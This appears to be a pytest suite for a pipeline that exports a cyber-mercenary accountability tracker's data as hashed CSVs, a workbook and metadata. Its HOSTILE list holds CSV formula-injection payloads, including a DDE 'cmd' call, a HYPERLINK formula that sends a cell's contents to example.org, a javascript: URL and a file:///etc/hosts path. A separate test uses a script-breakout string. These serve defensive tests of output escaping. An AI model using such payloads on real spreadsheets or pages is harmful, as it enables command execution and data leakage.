"""The data of an edition are whole, described, hashed, the same each time, and run nowhere."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import frictionless
import openpyxl
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from conftest import TOY
from hypothesis import given
from hypothesis import strategies as st

from analysis import (
    builds,
    citation,
    datasets,
    derived,
    formulas,
    keys,
    ledger,
    processed,
    selection,
    sums,
    workbook,
)
from analysis.paths import ROOT
from analysis.schema import SCHEMA
from analysis.selection import Selection
from analysis.tables import Tables

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
    "+1",
    "-1+1",
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001, full-width on purpose, as the next
    "＠SUM(1)",  # noqa: RUF001
    "'=1+1",
    "''@SUM(1)",
    "javascript:alert(1)",
    "file:///etc/hosts",
)


@pytest.fixture(scope="module")
def report(toy: Tables, toy_frames: dict[str, pd.DataFrame]) -> Selection:
    """The toy's latest edition as its supporters read it."""
    return selection.select(toy, toy_frames, "2025", "paris-call")


@pytest.fixture(scope="module")
def folder(report: Selection, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Its data, written once."""
    made = tmp_path_factory.mktemp("data")
    datasets.write(report, made)
    return made


@pytest.fixture(scope="module")
def hostile(toy: Tables) -> Selection:
    """The toy with a hostile text in each free text of instruments, searches and vendors."""
    acts = toy.instruments.assign(title=_filled(HOSTILE, len(toy.instruments)))
    acts = acts.assign(source_url=_filled(HOSTILE[::-1], len(acts)), summary=acts.title)
    searches = pd.concat([toy.searches.head(1)] * len(HOSTILE), ignore_index=True)
    searches = searches.assign(query=list(HOSTILE), note=list(HOSTILE))
    vendors = pd.concat([toy.vendors.head(1)] * len(HOSTILE), ignore_index=True)
    vendors = vendors.assign(vendor=list(HOSTILE), products=list(HOSTILE))
    raw = replace(toy, instruments=acts, searches=searches, vendors=vendors)
    return selection.select(raw, processed.build(raw), "2025", "paris-call")


@pytest.fixture(scope="module")
def hostile_folder(hostile: Selection, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data of the hostile toy."""
    made = tmp_path_factory.mktemp("hostile")
    datasets.write(hostile, made)
    return made


def _filled(texts: tuple[str, ...], length: int) -> list[str]:
    return [texts[at % len(texts)] for at in range(length)]


def rows(path: Path) -> list[dict[str, str]]:
    """A CSV file as text."""
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def book_of(folder: Path) -> Path:
    """The one workbook of a folder."""
    (path,) = folder.glob("*.xlsx")
    return path


def test_every_table_is_there_raw_ones_in_full_computed_ones_of_the_edition(
    folder: Path, toy: Tables, toy_frames: dict[str, pd.DataFrame]
) -> None:
    """Where no text is a formula, a raw table is the file that people typed, byte for byte."""
    assert {path.stem for path in folder.glob("*.csv")} == {*SCHEMA, *processed.NAMES}
    for name in SCHEMA:
        made, typed = (f / f"{name}.csv" for f in (folder, TOY / "raw"))
        assert made.read_bytes() == typed.read_bytes(), name
    for name, frame in toy_frames.items():
        made = rows(folder / f"{name}.csv")
        own = (frame.edition == "2025").sum() if "edition" in frame else len(frame)
        assert len(made) == own, name
        assert {row.get("edition", "2025") for row in made} <= {"2025"}


def test_the_real_raw_tables_pass_unchanged(evidence: Tables) -> None:
    """No text of the evidence opens like a formula, so no apostrophe stands in its files."""
    for name in SCHEMA:
        text = datasets.as_csv(datasets.typed(name, getattr(evidence, name)))
        assert text == (ROOT / "data" / "raw" / f"{name}.csv").read_text(encoding="utf-8"), name


def test_the_schema_of_computed_tables_is_theirs(toy_frames: dict[str, pd.DataFrame]) -> None:
    """Every computed table has the columns that its schema says, in their order."""
    assert set(derived.DERIVED) == set(processed.NAMES)
    assert not set(derived.DERIVED) & set(SCHEMA)
    for name, frame in toy_frames.items():
        assert list(frame) == list(derived.DERIVED[name].columns), name
        assert not frame.duplicated(list(derived.DERIVED[name].key)).any(), name


def test_every_file_is_hashed_and_the_sums_check(folder: Path) -> None:
    """`sha256sum -c` would pass, and would see a changed byte."""
    listed = dict(
        reversed(line.split("  ")) for line in (folder / sums.NAME).read_text().splitlines()
    )
    assert set(listed) == {path.name for path in folder.iterdir()} - {sums.NAME}
    for name, digest in listed.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
    done = subprocess.run(
        ["sha256sum", "-c", "--quiet", sums.NAME], cwd=folder, capture_output=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, b"")


@pytest.mark.parametrize("which", ["folder", "hostile_folder"])
def test_the_package_is_valid(which: str, request: pytest.FixtureRequest) -> None:
    """Frictionless finds schema, types, keys, sizes and hashes right, hostile texts or not."""
    where = request.getfixturevalue(which)
    errors = _errors(frictionless.validate(str(where / "datapackage.json")))
    if which == "folder":
        assert errors == []
    else:  # its addresses are none of the web, which is a true finding and the only one
        assert {error[3] for error in errors} == {"source_url"}


@pytest.mark.parametrize(
    ("name", "was", "now"),
    [
        ("panel", b"2025,FRA,oversight", b"2025,FRX,oversight"),  # a government that is none
        ("panel", b",adopted,", b",adapted,"),  # a state that is none
        ("searches", b"2025-11-20", b"2025-13-20"),  # a day that is none
    ],
)
def test_the_package_sees_what_is_wrong(
    name: str, was: bytes, now: bytes, folder: Path, tmp_path: Path
) -> None:
    """The test of the package can fail: broken keys, values and days are found, and the hash."""
    for path in folder.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    held = (tmp_path / f"{name}.csv").read_bytes()
    assert was in held
    (tmp_path / f"{name}.csv").write_bytes(held.replace(was, now, 1))
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert {task.name for task in report.tasks if task.errors} >= {name}
    assert "hash-count" in {error[2] for error in _errors(report)}
    assert len({error[2] for error in _errors(report)}) > 1


def _errors(report: frictionless.Report) -> list[list[str]]:
    flat = report.flatten(["title", "rowNumber", "type", "fieldName", "message"])
    return [error for error in flat if error]


def test_the_package_describes_each_file_each_column_and_each_bond(folder: Path) -> None:
    """Nothing is left out: files with size and hash, columns with words, keys both ways."""
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    held = {resource["path"]: resource for resource in package["resources"]}
    beside = {"datapackage.json", "dataset.jsonld", sums.NAME}
    assert set(held) == {path.name for path in folder.iterdir()} - beside
    assert len({resource["name"] for resource in held.values()}) == len(held)
    for path, resource in held.items():
        assert resource["hash"] == f"sha256:{keys.digest(folder / path)}"
        for column in resource.get("schema", {}).get("fields", []):
            assert column["description"], (path, column["name"])
    panel = held["panel.csv"]["schema"]
    assert panel["primaryKey"] == ["edition", "government", "recommendation_id"]
    assert [bond["reference"]["resource"] for bond in panel["foreignKeys"]] == [
        "editions", "governments", "recommendations", "instruments",
    ]  # fmt: skip
    level = next(column for column in panel["fields"] if column["name"] == "level")
    assert (level["type"], level["constraints"]) == ("integer", {"minimum": 0, "maximum": 4})
    assert "[" not in level["description"]
    assert held["panel.csv"]["description"].startswith("One row is a government and one of")
    counts = held["cohort_counts.csv"]["schema"]
    assert "primaryKey" not in counts
    assert counts["uniqueKeys"] == [list(derived.DERIVED["cohort_counts"].key)]


def test_no_csv_cell_opens_like_a_formula_unless_it_is_a_number(hostile_folder: Path) -> None:
    """Whatever the evidence says, a spreadsheet that opens the file has nothing to run."""
    seen = 0
    for path in hostile_folder.glob("*.csv"):
        for row in rows(path):
            for cell in row.values():
                assert not formulas.is_like(cell), (path.name, cell)
                seen += cell.startswith("'")
    assert seen > 2 * len(HOSTILE)


def test_the_apostrophe_comes_off_again(hostile_folder: Path) -> None:
    """The rule in the README gives back what was typed, apostrophes of the text included."""
    queries = [formulas.bare(row["query"]) for row in rows(hostile_folder / "searches.csv")]
    assert queries == [text.replace("\r", "\n") for text in HOSTILE]
    said = (hostile_folder / "README.md").read_text(encoding="utf-8")
    printed = re.search(r"^    (\S.*)$", said, re.MULTILINE)[1]
    assert printed == formulas.GUARDED.pattern
    for typed in HOSTILE:
        shown = formulas.guarded(typed)
        assert (shown[1:] if re.match(printed, shown) else shown) == typed


@given(st.text(st.sampled_from("'=+-@＝ \t\r\n\ufeffa1")))  # noqa: RUF001
def test_guarding_is_undone_by_baring(text: str) -> None:
    """Every text comes back, and no guarded text is a formula."""
    assert formulas.bare(formulas.guarded(text)) == text
    assert not formulas.is_like(formulas.guarded(text))


def test_negative_numbers_stay_numbers() -> None:
    """A column of numbers is left alone; the same signs in a column of texts are guarded."""
    frame = pd.DataFrame({"score": [-1.5, 2.0], "level": pd.array([-1, None], "Int64")})
    frame = frame.assign(query=["-1", "1"])
    assert datasets.as_csv(frame) == "score,level,query\n-1.5,-1,'-1\n2.0,,1\n"


def test_the_workbook_holds_no_formula_and_no_link_but_of_the_web(hostile_folder: Path) -> None:
    """Hostile texts are text cells, marked as such; their addresses are no links."""
    book = openpyxl.load_workbook(book_of(hostile_folder))
    said = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value]
    assert {cell.data_type for cell in said} <= {"s", "n"}
    assert not [cell for cell in said if cell.hyperlink]
    typed = {text.replace("\r", "\n") for text in HOSTILE}  # as XML reads line breaks
    hostile = [cell for cell in said if cell.value in typed]
    assert {cell.value for cell in hostile} == typed
    assert all(cell.quotePrefix for cell in hostile if formulas.is_like(cell.value))
    with zipfile.ZipFile(book_of(hostile_folder)) as held:
        texts = {name: held.read(name) for name in held.namelist()}
    assert not [name for name in texts if re.search("vba|external|connection|embed", name)]
    assert not [name for name, text in texts.items() if b"<f>" in text or b"TargetMode" in text]


def test_links_of_the_workbook_lead_to_sources(folder: Path, toy: Tables) -> None:
    """What may be clicked is an address of the evidence, and shows itself."""
    book = openpyxl.load_workbook(book_of(folder))
    linked = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert len(linked) > len(toy.instruments)
    for cell in linked:
        assert cell.hyperlink.target == cell.value
        assert cell.value in set(toy.instruments.source_url)


def test_the_matrix_tells_own_inherited_and_joined_apart(folder: Path) -> None:
    """Checked by hand against the toy's golden panel: number in the cell, origin beside it."""
    sheet = openpyxl.load_workbook(book_of(folder))["levels"]
    head, *lines = list(sheet.iter_rows())
    columns = [cell.value for cell in head]
    shown = {
        (line[0].value, column): _shown(cell)
        for line in lines
        for column, cell in zip(columns, line, strict=True)
    }
    assert shown["FRA", "Export safeguards"] == "3 inherited, none found by own acts"
    assert shown["FRA", "Oversight"] == "4 own"
    assert shown["FRA", "Acceptable use"] == "3 own, targeted"
    assert shown["GHA", "Acceptable use"] == "1 joined, none found by own acts, 1 counter-act"
    assert shown["GHA", "Export safeguards"] == "3 own"
    assert shown["GHA", "Vendor verification"] == "0 none found in a brief search"
    assert shown["GRC", "Oversight"] == "not assessed"


def _shown(cell: openpyxl.cell.Cell) -> str:
    """What a spreadsheet shows of a cell whose format adds words to its number."""
    words = re.fullmatch(r'0"(.*)"', cell.number_format)
    return f"{cell.value}{words[1]}" if words else str(cell.value)


def test_the_workbook_has_its_sheets_with_frozen_headers(folder: Path, report: Selection) -> None:
    """Notes first; each sheet has a header that stays, a filter, and columns one can read."""
    book = openpyxl.load_workbook(book_of(folder))
    assert book.sheetnames == ["notes", "levels", "panel", "acts", "searches"]
    for sheet in book:
        assert sheet.freeze_panes[1:] == "2"
        assert sheet.auto_filter.ref
        widths = [column.width for column in sheet.column_dimensions.values()]
        assert all(6 < width < 120 for width in widths)
    said = dict(row for row in book["notes"].iter_rows(min_row=2, values_only=True))
    assert "not a finding that nothing exists" in said["How to read a zero"]
    assert "Inherited" in said["Own, inherited, joined"]
    assert citation.LICENCE in said["Licence"]
    assert said["To cite"] == citation.line(report, "Cyber Mercenary Accountability Report 2025")
    assert said["State"] == "Retrospective, not published."


def test_the_workbook_knows_no_clock(folder: Path) -> None:
    """Made on the day of the newest entry, whenever it is made."""
    with zipfile.ZipFile(book_of(folder)) as held:
        assert {part.date_time for part in held.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        days = re.findall(r"\d{4}-\d{2}-\d{2}T[\d:]+Z", held.read("docProps/core.xml").decode())
    assert set(days) == {"2025-11-20T00:00:00Z"}


def test_editors_notes_stay_out_of_the_workbook(folder: Path) -> None:
    """What coders and researchers wrote for each other is in the raw tables only."""
    with zipfile.ZipFile(book_of(folder)) as held:
        texts = held.read("xl/sharedStrings.xml").decode()
    assert "Made for the test." not in texts
    assert "expert review is pending" in texts


def test_a_text_longer_than_a_cell_says_that_it_was_cut(report: Selection, toy: Tables) -> None:
    """A spreadsheet holds 32,767 signs; the rest is not dropped in silence."""
    acts = toy.instruments.assign(summary="x" * 40_000)
    told = workbook.of(replace(report, tables=replace(toy, instruments=acts)))
    summaries = [c.value for c in openpyxl.load_workbook(io.BytesIO(told))["acts"]["D"]][1:]
    assert all(len(text) == 32_767 and text.endswith(workbook.MARK) for text in summaries)


@pytest.mark.slow
def test_the_same_data_are_the_same_bytes_in_another_folder(
    folder: Path, report: Selection, toy: Tables, toy_folder: Path, tmp_path: Path
) -> None:
    """Computed anew, written elsewhere or selected from the files: not a byte differs."""
    again = selection.select(toy, processed.build(toy), "2025", "paris-call")
    read = {name: processed.read(name, toy_folder) for name in processed.NAMES}
    stored = selection.select(toy, read, "2025", "paris-call")
    for name, chosen in (("else where", again), ("stored", stored)):
        datasets.write(chosen, tmp_path / name)
        for path in folder.iterdir():
            assert (tmp_path / name / path.name).read_bytes() == path.read_bytes(), path.name


def test_the_dataset_lists_its_files_and_names_nobody_else(folder: Path) -> None:
    """schema.org's Dataset: relative downloads with hashes, licence, version, no address."""
    told = json.loads((folder / "dataset.jsonld").read_text(encoding="utf-8"))
    assert (told["@context"], told["@type"]) == ("https://schema.org", "Dataset")
    assert told["creator"]["name"] == "the tracker's contributors"
    assert told["license"] == citation.LICENCE_URL
    assert told["dateModified"] == "2025-11-20"
    assert "datePublished" not in told
    held = {one["contentUrl"]: one["sha256"] for one in told["distribution"]}
    assert held == {
        path.name: keys.digest(path)
        for path in folder.iterdir()
        if path.name not in ("dataset.jsonld", sums.NAME)
    }
    assert all("/" not in name for name in held)


def test_no_text_breaks_out_of_the_data_block() -> None:
    """Embedded in a page the Dataset is data whatever it says, and reads back as it was."""
    told = {"name": "</script><script>alert(1)</script><!-- & -->"}
    page = BeautifulSoup(f"<head>{citation.script(told)}</head>", "html.parser")
    (block,) = page.find_all("script")
    assert block["type"] == "application/ld+json"
    assert json.loads(block.string) == told


def test_meta_tags_say_title_date_language_and_licence() -> None:
    """Both vocabularies; markup in a title stays text; an undated page goes undated."""
    page = BeautifulSoup(citation.head('A "title" <b>', "2025-11-10"), "html.parser")
    held = {tag["name"]: tag["content"] for tag in page.find_all("meta")}
    assert held["DC.title"] == held["citation_title"] == 'A "title" <b>'
    assert (held["DC.date"], held["citation_date"]) == ("2025-11-10", "2025/11/10")
    assert held["DC.language"] == held["citation_language"] == "en"
    assert held["DC.rights"] == citation.LICENCE_URL
    assert "date" not in citation.head("A title", "")


def test_the_words_are_those_of_the_citation_file() -> None:
    """Title, abstract, keywords and authors are the ones of CITATION.cff."""
    said = (ROOT / "CITATION.cff").read_text(encoding="utf-8")
    assert f'title: "{citation.TRACKER}"' in said
    assert f'abstract: "{citation.ABSTRACT}"' in said
    assert f'name: "{citation.AUTHORS}"' in said
    assert re.findall(r"^  - ([a-z- ]+)$", said, re.MULTILINE) == list(citation.KEYWORDS)
    assert citation.LICENCE_ID in said


@pytest.mark.slow
def test_as_known_earlier_the_package_is_valid_too(
    evidence: Tables, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first day's evidence is written and described like today's: no key leads nowhere."""
    monkeypatch.setenv("KNOWN_ON", "2026-11-23")
    raw = ledger.known(evidence, "2026-11-23")
    datasets.write(selection.select(raw, processed.build(raw), "2026", "paris-call"), tmp_path)
    assert _errors(frictionless.validate(str(tmp_path / "datapackage.json"))) == []
    said = (tmp_path / "README.md").read_text(encoding="utf-8")
    assert "as known on 23 November 2026" in said


@pytest.mark.slow
@pytest.mark.parametrize(("edition", "cohort"), [("2023", "oecd"), ("2026", "paris-call")])
def test_the_real_package_is_valid(
    edition: str, cohort: str, evidence: Tables, tmp_path: Path
) -> None:
    """So are the real data, the baseline and another cohort included."""
    chosen = selection.select(evidence, processed.build(evidence), edition, cohort)
    datasets.write(chosen, tmp_path)
    assert _errors(frictionless.validate(str(tmp_path / "datapackage.json"))) == []


@pytest.mark.slow
def test_data_are_published_whole_or_not_at_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build that breaks leaves the last good files; one that has nothing to do does nothing."""
    monkeypatch.setenv("RAW", str(TOY / "raw"))
    monkeypatch.setenv("OUT", str(tmp_path))
    task = builds.chosen("2025", "")
    folder = datasets.make(task)
    (folder / "left-over.csv").write_text("from an older version")
    before = {path: path.read_bytes() for path in task.folder.rglob("*") if path.is_file()}
    (folder / "panel.csv").write_text("spoilt")

    def broken(*_: object) -> None:
        raise ValueError("the workbook breaks")

    with monkeypatch.context() as patched:
        patched.setattr(datasets.workbook, "of", broken)
        with pytest.raises(ValueError, match="the workbook breaks"):
            datasets.make(task)
    assert (folder / "panel.csv").read_text() == "spoilt"
    assert not list(tmp_path.rglob(".building-*"))
    datasets.make(task)
    del before[folder / "left-over.csv"]
    assert {path: path.read_bytes() for path in task.folder.rglob("*") if path.is_file()} == before
    stamp = (folder / "panel.csv").stat().st_mtime_ns
    assert datasets.make(task) == folder
    assert (folder / "panel.csv").stat().st_mtime_ns == stamp


def test_the_command_refuses_what_it_does_not_know() -> None:
    """An unknown edition exits 2 with the known ones, before anything is built."""
    done = subprocess.run(
        [sys.executable, "-m", "analysis.datasets"],
        capture_output=True, text=True, check=False, env=os.environ | {"EDITION": "2062"},
    )  # fmt: skip
    assert done.returncode == 2
    assert done.stderr.startswith("unknown edition 2062; known: 2023, 2024")
